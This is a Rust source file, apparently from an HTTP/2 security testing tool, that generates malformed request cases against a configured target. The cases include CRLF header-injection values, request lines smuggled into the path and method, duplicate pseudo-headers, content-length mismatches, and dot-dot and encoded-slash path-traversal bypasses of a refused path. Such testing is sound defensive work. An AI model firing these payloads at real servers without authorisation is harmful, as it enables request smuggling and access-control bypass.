//! Cases that are header lists of an HTTP/2 client: what client libraries refuse to send (ATK-9).

use super::{Case, Need, Play};
use crate::target::Options;

type Field<'a> = (&'a [u8], &'a [u8]);
/// A header list, in order.
pub(crate) type List = Vec<(Vec<u8>, Vec<u8>)>;

/// One more field behind a proper list.
const FIELDS: &[(&str, Field<'static>)] = &[
    ("a line end in a value", (b"x-a", b"1\r\nx-admin: 1")),
    ("a line feed in a value", (b"x-a", b"1\nx-admin: 1")),
    ("a carriage return in a value", (b"x-a", b"1\rx-admin: 1")),
    ("nul in a value", (b"x-a", b"1\0")),
    ("a line end in a name", (b"x-a: 1\r\nx-admin", b"1")),
    ("nul in a name", (b"x-a\0", b"1")),
    ("a colon in a name", (b"x-admin: 1", b"1")),
    ("a space in a name", (b"x-a ", b"1")),
    ("upper case in a name", (b"X-A", b"1")),
    ("an empty name", (b"", b"1")),
    ("transfer-encoding", (b"transfer-encoding", b"chunked")),
    ("connection", (b"connection", b"close")),
    ("keep-alive", (b"keep-alive", b"1")),
    ("proxy-connection", (b"proxy-connection", b"close")),
    ("upgrade", (b"upgrade", b"h2c")),
    ("te other than trailers", (b"te", b"gzip")),
    ("another host", (b"host", b"other.localhost")),
    ("content-length as a list", (b"content-length", b"1,1")),
    ("content-length with a sign", (b"content-length", b"+0")),
    ("content-length without a body", (b"content-length", b"5")),
    ("two methods", (b":method", b"DELETE")),
    ("an unknown pseudo-header", (b":evil", b"1")),
    ("a status", (b":status", b"200")),
];

/// Every case of HTTP/2.
pub(super) fn cases(options: &Options) -> Vec<Case> {
    let host = options.target.authority.as_bytes();
    let path = options.allow_path.as_bytes();
    let plain = list(options, b"GET", path, host);
    let mut cases: Vec<Case> = FIELDS
        .iter()
        .map(|(name, (field, value))| {
            let mut fields = plain.clone();
            fields.push((field.to_vec(), value.to_vec()));
            case("ATK-9", name, &[Need::Http2], fields, None)
        })
        .collect();
    let first = |name: &str, value: &[u8]| {
        let mut fields = vec![(name.as_bytes().to_vec(), value.to_vec())];
        fields.extend(plain.clone());
        fields
    };
    let without = |name: &[u8]| plain.iter().filter(|(found, _)| found != name).cloned().collect::<Vec<_>>();
    let with_length = |length: &str| {
        let mut fields = list(options, b"POST", path, host);
        fields.push((b"content-length".to_vec(), length.as_bytes().to_vec()));
        fields
    };
    let injected = [path, b" HTTP/1.1\r\nx-admin: 1\r\nx: "].concat();
    let method = b"GET / HTTP/1.1\r\nx-admin: 1\r\n\r\nGET";
    let lists: Vec<(&str, List, Option<&[u8]>)> = vec![
        ("two paths", first(":path", b"/x"), None),
        ("two schemes", first(":scheme", b"http"), None),
        ("two authorities", first(":authority", b"other.localhost"), None),
        ("a pseudo-header behind a header", first("x-a", b"1"), None),
        ("no path", without(b":path"), None),
        ("no method", without(b":method"), None),
        ("an empty path", list(options, b"GET", b"", host), None),
        ("user-info in the authority", list(options, b"GET", path, &[b"x@".as_slice(), host].concat()), None),
        ("a line end in the path", list(options, b"GET", &injected, host), None),
        ("a line end in the method", list(options, method, path, host), None),
        ("a body longer than its length", with_length("4"), Some(b"hello")),
        ("a body shorter than its length", with_length("5"), Some(b"hell")),
        ("a body where none was announced", with_length("0"), Some(b"x")),
    ];
    cases.extend(lists.into_iter().map(|(name, fields, body)| case("ATK-9", name, &[Need::Http2], fields, body)));
    let denied = options.deny_path.as_deref().unwrap_or("/refused");
    let bare = denied.trim_start_matches('/');
    for (attack, name, target) in [
        ("ATK-9", "the refused path without its slash", bare.to_owned()),
        ("ATK-9", "the refused path in absolute form", format!("https://{}{denied}", options.target.authority)),
        ("ATK-9", "the refused path behind a space", format!("/x HTTP/1.1 {denied}")),
        ("ATK-13", "a dot-dot segment over http/2", format!("/x/..{denied}")),
        ("ATK-13", "an encoded dot-dot segment over http/2", format!("/x/%2e%2e{denied}")),
        ("ATK-13", "an encoded slash over http/2", format!("/x/..%2f{bare}")),
        ("ATK-13", "two slashes over http/2", format!("/{denied}")),
        ("ATK-13", "parameters over http/2", format!("/x/..;{denied}")),
        ("ATK-15", "a number sign over http/2", format!("{denied}#/x")),
    ] {
        let fields = list(options, b"GET", target.as_bytes(), host);
        cases.push(case(attack, name, &[Need::Http2, Need::Rule], fields, None));
    }
    cases
}

fn case(
    attack: &'static str,
    name: &str,
    needs: &[Need],
    fields: Vec<(Vec<u8>, Vec<u8>)>,
    body: Option<&[u8]>,
) -> Case {
    Case::new(attack, name, needs, Play::Http2 { fields, body: body.map(<[u8]>::to_vec) })
}

/// A proper list, credentials included.
pub(crate) fn list(options: &Options, method: &[u8], path: &[u8], authority: &[u8]) -> List {
    let pseudo: [Field<'_>; 4] =
        [(b":method", method), (b":scheme", b"https"), (b":authority", authority), (b":path", path)];
    let mut fields: List = pseudo.iter().map(|(name, value)| (name.to_vec(), value.to_vec())).collect();
    for (name, value) in &options.credentials {
        fields.push((name.to_ascii_lowercase().into_bytes(), value.clone().into_bytes()));
    }
    fields
}
